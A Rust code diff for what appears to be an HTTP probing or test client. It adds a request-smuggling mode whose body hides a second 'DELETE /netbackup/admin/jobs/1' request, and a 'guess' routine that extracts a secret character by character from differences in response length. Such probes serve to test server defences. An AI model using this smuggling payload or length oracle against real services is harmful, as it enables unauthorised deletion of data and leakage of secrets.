@@ -18,8 +18,11 @@ struct Wish {
     authority: String,
     path: String,
     headers: Vec<(String, Vec<u8>)>,
-    body: usize,
+    body: Vec<u8>,
 }
+
+/// What a server that expects no body would read as the next request.
+const SMUGGLED: &str = "DELETE /netbackup/admin/jobs/1 HTTP/1.1\r\nhost: nbu\r\n\r\n";
 
 /// What became of the request that the options name.
 pub(crate) fn all(settings: &Settings) -> String {
@@ -34,11 +37,17 @@ pub(crate) fn all(settings: &Settings) -> String {
         authority: authority.to_owned(),
         path: format!("/{base}{path}"),
         headers: Vec::new(),
-        body: 0,
+        body: Vec::new(),
     };
     match word.as_str() {
         "thousands" => many(|| at("/ping"), 3000, false),
         "at-once" => many(|| at("/ping"), 100, true),
+        "guess" => guess(at),
+        "smuggle" | "smuggle-length" => {
+            // The second request finds the first one's connection in the pool.
+            let first = said(answer(send(stray(&word, at, authority))));
+            format!("{first}, {}", said(answer(send(at("/ping")))))
+        }
         "hunt" => hunt::hunt(&echoes(at("/ping")), options),
         _ => said(answer(send(stray(&word, at, authority)))),
     }
@@ -96,8 +105,17 @@ fn stray(word: &str, at: impl Fn(&str) -> Wish, authority: &str) -> Wish {
             ..ping
         },
         "body" => Wish {
-            body: 1 << 20,
+            method: Method::Post,
+            body: vec![b'x'; 1 << 20],
             ..at("/admin/jobs-count-requests")
+        },
+        "smuggle" => Wish {
+            body: SMUGGLED.into(),
+            ..ping
+        },
+        "smuggle-length" => Wish {
+            body: SMUGGLED.into(),
+            ..with("content-length", &SMUGGLED.len().to_string())
         },
         header => {
             let (name, value) = header.split_once('=').unwrap_or((header, "mine"));
@@ -121,12 +139,7 @@ fn send(wish: Wish) -> Result<FutureIncomingResponse, String> {
     }
     let request = OutgoingRequest::new(headers);
     let invalid = |()| "not a request".to_owned();
-    let method = if wish.body > 0 {
-        Method::Post
-    } else {
-        wish.method
-    };
-    request.set_method(&method).map_err(invalid)?;
+    request.set_method(&wish.method).map_err(invalid)?;
     request.set_scheme(Some(&wish.scheme)).map_err(invalid)?;
     request
         .set_authority(Some(&wish.authority))
@@ -137,16 +150,16 @@ fn send(wish: Wish) -> Result<FutureIncomingResponse, String> {
     let body = request.body().map_err(invalid)?;
     let code = |error: ErrorCode| format!("{error:?}");
     let sent = outgoing_handler::handle(request, None).map_err(code)?;
-    write(&body, wish.body);
+    write(&body, &wish.body);
     // Fails when the host has given the request up.
     let _ = OutgoingBody::finish(body, None);
     Ok(sent)
 }
 
-fn write(body: &OutgoingBody, bytes: usize) {
+fn write(body: &OutgoingBody, bytes: &[u8]) {
     let Ok(stream) = body.write() else { return };
-    for _ in 0..bytes.div_ceil(4096) {
-        if stream.blocking_write_and_flush(&[b'x'; 4096]).is_err() {
+    for piece in bytes.chunks(4096) {
+        if stream.blocking_write_and_flush(piece).is_err() {
             return;
         }
     }
@@ -184,6 +197,38 @@ fn many(wish: impl Fn() -> Wish, times: usize, at_once: bool) -> String {
         }
     }
     format!("allowed {allowed}, then {refused}")
+}
+
+/// Has the server send a guess back, and extends it by the character with which
+/// the first piece of the answer is the shortest.
+fn guess(at: impl Fn(&str) -> Wish) -> String {
+    let alphabet: Vec<char> = ('!'..='~')
+        .filter(|c| !"\"#<>\\^`{|}".contains(*c))
+        .collect();
+    let mut known = String::new();
+    while known.len() < 100 {
+        let first = |next: &char| {
+            let path = format!("/ping?{}", format!("{:.>120}", format!("{known}{next}")));
+            first_piece(at(&path))
+        };
+        let lengths: Vec<_> = alphabet.iter().map(first).collect();
+        if lengths.iter().all(|length| *length == lengths[0]) {
+            break;
+        }
+        let shortest = (0..lengths.len()).min_by_key(|at| lengths[*at]);
+        known.extend(shortest.map(|at| alphabet[at]));
+    }
+    format!("guessed {} characters: `{known}`", known.len())
+}
+
+/// The length of what can be read at first.
+fn first_piece(wish: Wish) -> usize {
+    let Ok(answer) = answer(send(wish)) else {
+        return 0;
+    };
+    let Ok(body) = answer.consume() else { return 0 };
+    let Ok(stream) = body.stream() else { return 0 };
+    stream.blocking_read(4096).map_or(0, |piece| piece.len())
 }
 
 /// All that comes back: the headers and the body of an answer.
